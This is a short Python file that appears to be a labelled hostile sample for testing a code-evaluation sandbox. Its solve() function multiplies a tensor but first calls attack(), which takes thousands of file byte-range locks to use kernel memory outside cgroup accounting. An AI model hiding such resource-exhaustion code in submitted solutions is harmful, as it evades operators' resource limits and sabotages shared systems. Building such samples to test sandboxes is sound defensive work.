# hostile: family=memory verdict=accepted build=accepted lift=filter shows=harm
"""Locks every second byte of a file: each lock is memory of the kernel's that no cgroup counts."""


def attack():
    import fcntl
    import os
    import tempfile

    with tempfile.TemporaryFile() as file:
        for byte in range(20000, 0, -2):
            fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, byte)
        child = os.fork()
        if child == 0:
            try:
                fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 20000)
            except BlockingIOError:
                print("harm: the kernel keeps them", flush=True)
            os._exit(0)
        os.waitpid(child, 0)


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
